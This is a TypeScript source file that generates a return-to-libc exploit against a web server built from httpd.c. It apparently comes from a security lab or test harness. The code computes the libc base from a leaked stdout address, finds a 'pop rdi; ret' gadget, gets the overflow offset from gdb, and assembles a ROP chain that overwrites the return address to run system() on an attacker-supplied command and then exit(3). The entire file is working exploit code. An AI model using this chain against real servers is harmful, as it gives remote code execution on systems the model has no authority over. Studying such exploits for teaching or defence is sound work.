/**
 * The attack on httpd.c: return addresses on the stack are replaced by a chain that goes through the C library,
 * system(command) and then exit(3), with nothing injected that would have to be executable. The command is in a request
 * before it, which the server keeps at an address known from its file.
 */
import { execFileSync } from 'node:child_process';
import { readFileSync } from 'node:fs';

/** The status that the attacked server ends with. */
export const PWNED_STATUS = 3;

/** `output` is where stdout's structure is. */
export function returnToLibc(program: string, output: bigint): Buffer {
  const libc = /=> (\S*libc\.so\.6) /.exec(text('ldd', [program]))?.[1] ?? '';
  const base = output - symbol(libc, '_IO_2_1_stdout_', '-D');
  const [popRdi, ret] = [base + gadget(libc, [0x5f, 0xc3]), base + gadget(libc, [0xc3])];
  const call = (name: string, argument: bigint): bigint[] => [popRdi, argument, base + symbol(libc, name, '-D')];
  // A function finds the stack 8 off 16 when it is called: hence the return that does nothing.
  const chain = [ret, ...call('system', symbol(program, 'last_path')), ...call('exit', BigInt(PWNED_STATUS))];
  const line = Buffer.alloc(distance(program) + 8 * chain.length, 'A');
  chain.forEach((word, i) => line.writeBigUInt64LE(word, distance(program) + 8 * i));
  return line;
}

/** From the buffer to the return address: gdb says where a variable is, seen from behind the return address. */
function distance(program: string): number {
  const [, offset] = /Symbol line is [^\n]*\n\s*0: DW_OP_fbreg -(\d+)/.exec(text('gdb', ['-batch', '-nx', '-ex', 'info scope read_request', program])) ?? [];
  return Number(offset) - 8;
}

function symbol(file: string, name: string, ...options: readonly string[]): bigint {
  const [, address] = new RegExp(`^(\\w+) \\w ${name}(@|$)`, 'm').exec(text('nm', [...options, file])) ?? [];
  return BigInt(`0x${address}`);
}

/** Where some bytes are in the code of a file, from its beginning in memory on. */
function gadget(file: string, bytes: readonly number[]): bigint {
  const [, offset, address] = /LOAD\s+(0x\w+)\s+(0x\w+)\s+0x\w+\s+0x\w+\s+0x\w+\s+R E/.exec(text('readelf', ['-lW', file])) ?? [];
  return BigInt(readFileSync(file).indexOf(Buffer.from(bytes), Number(offset)) - Number(offset) + Number(address));
}

function text(command: string, words: readonly string[]): string {
  return execFileSync(command, words, { encoding: 'utf8' });
}
